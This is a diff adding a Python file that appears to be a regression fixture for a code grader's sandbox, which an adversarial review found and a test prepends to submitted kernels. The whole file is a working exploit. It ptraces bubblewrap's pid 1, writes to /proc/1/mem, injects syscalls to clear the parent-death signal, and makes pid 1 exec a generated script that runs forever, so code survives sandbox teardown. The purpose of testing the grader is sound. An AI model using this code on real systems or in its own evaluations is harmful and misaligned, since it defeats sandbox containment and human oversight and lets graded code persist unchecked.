@@ -1,0 +1,69 @@
+# Found by an adversarial review (2026-11-29): code in the sandbox ptraces bubblewrap's pid 1 (same uid, dumpable),
+# clears its parent-death signal and makes it exec a script that never exits (a heartbeat file every 0.5 s).
+# Prepended to a kernel by tests/test_grader.py; needs x86-64 and ptrace of an ancestor allowed (Yama scope 0).
+import ctypes as _ct, os as _os, sys as _sys, struct as _st
+def _hijack():
+    _d = _os.path.dirname(_os.path.abspath(__file__))
+    _log = open(_os.path.join(_d, "hijack.log"), "a")
+    def L(*a): print(*a, file=_log, flush=True)
+    _persist = _os.path.join(_d, "persist.py")
+    with open(_persist, "w") as f:
+        f.write("import os, time\n"
+                "d = os.path.dirname(os.path.abspath(__file__))\n"
+                "n = 0\n"
+                "while True:\n"
+                "    n += 1\n"
+                "    open(os.path.join(d, 'heartbeat.txt'), 'w').write(f'{n} {time.time()} pid={os.getpid()}\\n')\n"
+                "    try:\n"
+                "        while os.waitpid(-1, os.WNOHANG)[0] > 0: pass\n"
+                "    except ChildProcessError: pass\n"
+                "    time.sleep(0.5)\n")
+    libc = _ct.CDLL(None, use_errno=True)
+    libc.ptrace.restype = _ct.c_long
+    libc.ptrace.argtypes = [_ct.c_long, _ct.c_long, _ct.c_void_p, _ct.c_void_p]
+    class Regs(_ct.Structure):
+        _fields_ = [(n, _ct.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi "
+                                                    "orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]
+    if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH
+        L("attach failed", _os.strerror(_ct.get_errno())); return
+    _os.waitpid(1, 0x40000000)  # __WALL
+    regs = Regs(); libc.ptrace(12, 1, None, _ct.byref(regs))  # GETREGS
+    saved = Regs(); _ct.memmove(_ct.byref(saved), _ct.byref(regs), _ct.sizeof(Regs))
+    mem = open("/proc/1/mem", "r+b", buffering=0)
+    mem.seek(regs.rip - 2); ins = mem.read(2)
+    L("pid1 rip", hex(regs.rip), "prev bytes", ins.hex(), "orig_rax", regs.orig_rax)
+    sc = regs.rip - 2
+    if ins != b"\x0f\x05":
+        L("no syscall insn before rip"); libc.ptrace(17, 1, None, None); return
+    def syscall(nr, a=0, b=0, c=0):
+        r = Regs(); _ct.memmove(_ct.byref(r), _ct.byref(saved), _ct.sizeof(Regs))
+        r.rax, r.rdi, r.rsi, r.rdx, r.rip, r.orig_rax = nr, a, b, c, sc, 0xffffffffffffffff
+        libc.ptrace(13, 1, None, _ct.byref(r))  # SETREGS
+        libc.ptrace(9, 1, None, None)  # SINGLESTEP
+        _os.waitpid(1, 0x40000000)
+        out = Regs(); libc.ptrace(12, 1, None, _ct.byref(out))
+        return _ct.c_longlong(out.rax).value
+    L("prctl(PR_SET_PDEATHSIG, 0) ->", syscall(157, 1, 0))
+    # strings and argv on pid 1's stack, well below its rsp
+    base = (saved.rsp - 8192) & ~0xf
+    strs = [_sys.executable.encode() + b"\0", _persist.encode() + b"\0"]
+    blob, ptrs, off = b"", [], 64
+    for s in strs:
+        ptrs.append(base + off + len(blob)); blob += s
+    argv = _st.pack("<3Q", ptrs[0], ptrs[1], 0)
+    envp = _st.pack("<Q", 0)
+    mem.seek(base); mem.write(argv + envp)
+    mem.seek(base + 64); mem.write(blob)
+    r = Regs(); _ct.memmove(_ct.byref(r), _ct.byref(saved), _ct.sizeof(Regs))
+    r.rax, r.rdi, r.rsi, r.rdx, r.rip, r.orig_rax = 59, ptrs[0], base, base + 24, sc, 0xffffffffffffffff
+    libc.ptrace(13, 1, None, _ct.byref(r))
+    libc.ptrace(9, 1, None, None)
+    _os.waitpid(1, 0x40000000)
+    libc.ptrace(17, 1, None, None)  # DETACH, no signal
+    L("execve injected; detached")
+try:
+    _hijack()
+except Exception as _e:
+    import traceback as _tb
+    open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "hijack.log"), "a").write(_tb.format_exc())
+# --- end of attack prefix ---
